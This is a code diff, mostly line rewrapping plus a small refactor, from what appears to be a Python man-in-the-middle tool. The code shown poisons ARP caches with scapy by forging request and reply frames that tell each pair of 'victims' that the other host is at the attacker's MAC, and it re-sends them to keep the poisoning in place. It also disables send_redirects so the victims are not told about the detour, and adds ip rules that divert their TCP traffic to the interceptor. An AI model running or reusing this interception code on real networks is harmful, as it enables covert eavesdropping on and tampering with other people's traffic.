@@ -34,9 +34,7 @@ Rewrite = Callable[[Line], list[Line]]
 
 
 @contextlib.asynccontextmanager
-async def on_path(
-    foothold: Foothold, tcp: InterceptTcp, udp: InterceptUdp | None = None
-) -> AsyncIterator[None]:
+async def on_path(foothold: Foothold, tcp: InterceptTcp, udp: InterceptUdp | None = None) -> AsyncIterator[None]:
     """Be between all the hosts until the block ends; then put everything back."""
     host = foothold.host
     if isinstance(host, LoopbackHost):
@@ -121,7 +119,9 @@ async def _intercepting(host: LanHost, port: int, tcp: InterceptTcp) -> AsyncIte
     for interface in ("all", "eth0"):
         host.sysctl(f"ipv4/conf/{interface}/send_redirects", "0")  # do not tell the victims a better way
         host.sysctl(f"ipv4/conf/{interface}/rp_filter", "0")
-    rules = [["pref", "10", "iif", "eth0", "ipproto", "tcp", end, str(port), "lookup", TABLE] for end in ("dport", "sport")]
+    rules = [
+        ["pref", "10", "iif", "eth0", "ipproto", "tcp", end, str(port), "lookup", TABLE] for end in ("dport", "sport")
+    ]
     host.run("ip", "route", "add", "local", "0.0.0.0/0", "dev", "lo", "table", TABLE)
     for rule in rules:
         host.run("ip", "rule", "add", *rule)
@@ -229,7 +229,9 @@ async def _poisoned(host: LanHost, note: Callable[[str], None]) -> AsyncIterator
         macs = await _true_macs(host, card, list(victims.values()))
         pairs = list(permutations(victims.values(), 2))
         forged = [frame for victim, other in pairs for frame in _arp(victim, macs[victim], other, host.mac, host.mac)]
-        restored = [frame for victim, other in pairs for frame in _arp(victim, macs[victim], other, macs[other], host.mac)]
+        restored = [
+            frame for victim, other in pairs for frame in _arp(victim, macs[victim], other, macs[other], host.mac)
+        ]
         await _until_answered(card, host, forged, set(pairs))
         note(f"ARP: told {len(victims)} hosts that all the others are at {host.mac}, and they answered there")
         keeping = asyncio.create_task(_keep(card, forged))
@@ -249,11 +251,10 @@ def _arp(victim: str, victim_mac: str, other: str, other_mac: str, sender_mac: s
     from scapy.layers.l2 import ARP, Ether
 
     ether = Ether(src=sender_mac, dst=victim_mac)
-    said = {"hwsrc": other_mac, "psrc": other}
     return [
-        bytes(ether / ARP(op=1, pdst=victim, **said)),
-        bytes(ether / ARP(op=1, pdst=other, **said)),
-        bytes(ether / ARP(op=2, pdst=victim, hwdst=victim_mac, **said)),
+        bytes(ether / ARP(op=1, hwsrc=other_mac, psrc=other, pdst=victim)),
+        bytes(ether / ARP(op=1, hwsrc=other_mac, psrc=other, pdst=other)),
+        bytes(ether / ARP(op=2, hwsrc=other_mac, psrc=other, pdst=victim, hwdst=victim_mac)),
     ]
 
 
